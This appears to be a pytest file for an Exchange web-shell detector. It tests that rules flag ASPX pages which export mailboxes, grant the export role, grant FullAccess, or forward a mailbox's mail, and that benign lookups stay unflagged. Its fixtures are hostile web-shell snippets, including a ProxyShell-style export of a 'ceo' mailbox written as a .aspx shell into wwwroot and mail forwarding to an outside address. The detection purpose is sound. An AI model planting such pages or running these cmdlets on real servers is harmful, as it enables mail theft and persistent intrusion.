"""EXH-WS-CODE-MAILBOX-EXPORT and EXH-WS-CODE-MAILBOX-ACCESS: a page running the Exchange cmdlets
that export mailboxes or grant the export role (ProxyShell's intruders exported mail, and wrote
their shells, as .pst files), or that open mailboxes to another account or forward their mail;
read from the cmdlet name as folded in an AddCommand, a Command object, a pipeline's
`Commands.Add`, a script or a command line; beside admin pages reading or setting a user's own
mailbox (docs/detection/webshell-code.md, "Exchange cmdlets")."""

from __future__ import annotations

import pytest

from code_support import assert_benign, assert_found, cs_page, run, vb_page

EXPORT = "EXH-WS-CODE-MAILBOX-EXPORT"
ACCESS = "EXH-WS-CODE-MAILBOX-ACCESS"
PS = "var ps = System.Management.Automation.PowerShell.Create();\n"
PIPELINE = (
    "var rs = System.Management.Automation.Runspaces.RunspaceFactory.CreateRunspace();\n"
    "rs.Open();\nvar pl = rs.CreatePipeline();\n"
)

SHELLS = [
    (
        "export.aspx",
        cs_page(
            PS + 'ps.AddCommand("New-MailboxExportRequest").AddParameter("Mailbox", Request["m"])'
            '.AddParameter("FilePath", Request["p"]);\nps.Invoke();'
        ),
        EXPORT,
        ["exports mailboxes or grants export rights", "(New-MailboxExportRequest; .AddCommand)"],
    ),
    (
        "export-script.aspx",
        cs_page(
            PS + 'ps.AddScript("Add-PSSnapin *Exchange*; New-MailboxExportRequest -Mailbox ceo '
            '-FilePath \\\\\\\\127.0.0.1\\\\c$\\\\inetpub\\\\wwwroot\\\\x.aspx");\nps.Invoke();'
        ),
        EXPORT,
        ["New-MailboxExportRequest -Mailbox ceo", ".AddScript"],
    ),
    (
        "role.aspx",
        cs_page(
            'var c = new System.Management.Automation.Runspaces.Command("New-ManagementRoleAssignment");\n'
            'c.Parameters.Add("Role", "Mailbox Import Export");\nc.Parameters.Add("User", Request["u"]);\n'
            + PIPELINE
            + "pl.Commands.Add(c);\npl.Invoke();"
        ),
        EXPORT,
        ["(New-ManagementRoleAssignment; new Command)"],
    ),
    (
        "folded.aspx",
        cs_page(PIPELINE + 'pl.Commands.Add("New-Mailbox" + "ExportRequest");\npl.Invoke();'),
        EXPORT,
        ["(New-MailboxExportRequest; Commands.Add)"],
    ),
    (
        "command-line.aspx",
        cs_page(
            'System.Diagnostics.Process.Start("powershell.exe", "-c Add-PSSnapin '
            'Microsoft.Exchange.Management.PowerShell.SnapIn; New-MailboxSearch -Name s -SourceMailboxes ceo");'
        ),
        EXPORT,
        ["New-MailboxSearch", "Process.Start"],
    ),
    (
        "permission.aspx",
        cs_page(
            PS + 'ps.AddCommand("Add-MailboxPermission").AddParameter("Identity", Request["m"])'
            '.AddParameter("User", Request["u"]).AddParameter("AccessRights", "FullAccess");\nps.Invoke();'
        ),
        ACCESS,
        ["grants mailbox rights or forwards mail", "(Add-MailboxPermission; .AddCommand)"],
    ),
    (
        "forward.aspx",
        cs_page(
            PS + 'ps.AddScript("Set-Mailbox -Identity ceo -ForwardingSmtpAddress x@example.org '
            '-DeliverToMailboxAndForward $true");\nps.Invoke();'
        ),
        ACCESS,
        ["-ForwardingSmtpAddress"],
    ),
    (
        "rule.vb.aspx",
        vb_page(
            "Dim ps = System.Management.Automation.PowerShell.Create()\n"
            'ps.AddCommand("New-InboxRule").AddParameter("Mailbox", Request("m")).AddParameter("ForwardTo", Request("t"))\n'
            "ps.Invoke()"
        ),
        ACCESS,
        ["(New-InboxRule; .AddCommand)"],
    ),
]


@pytest.mark.parametrize(("name", "code", "rule_id", "words"), SHELLS, ids=[s[0] for s in SHELLS])
def test_mailbox_export_and_access_cmdlets_are_found(name: str, code: str, rule_id: str, words: list[str]) -> None:
    assert_found(name, code, rule_id, words)


BENIGN = [
    (
        "lookup.aspx",
        cs_page(
            PS + 'ps.AddCommand("Get-Mailbox").AddParameter("Identity", Request["m"]);\n'
            "foreach (var o in ps.Invoke()) Response.Write(Server.HtmlEncode(o.ToString()));"
        ),
    ),
    (
        "own-name.aspx",
        cs_page(
            PS + 'ps.AddCommand("Set-Mailbox").AddParameter("Identity", User.Identity.Name)'
            '.AddParameter("DisplayName", Request["n"]);\nps.Invoke();'
        ),
    ),
    (
        "help.aspx",
        cs_page(
            'var tips = new System.Collections.Generic.List<string>();\ntips.Add("New-MailboxExportRequest");\n'
            'Response.Write("Ask IT to run New-MailboxExportRequest for an archive.");'
        ),
    ),
]


@pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
def test_mailbox_lookups_and_help_text_stay_quiet(name: str, code: str) -> None:
    assert_benign(name, code)


def test_a_migration_panels_source_file_is_left_out() -> None:
    panel = """public class Exports {
    public void Export(string mailbox, string path) {
        var ps = System.Management.Automation.PowerShell.Create();
        ps.AddCommand("New-MailboxExportRequest").AddParameter("Mailbox", mailbox).AddParameter("FilePath", path);
        ps.Invoke();
    }
}"""
    report = run("Exports.cs", panel)
    assert [c.rule_id for c in report.capabilities if c.rule_id in (EXPORT, ACCESS)] == []
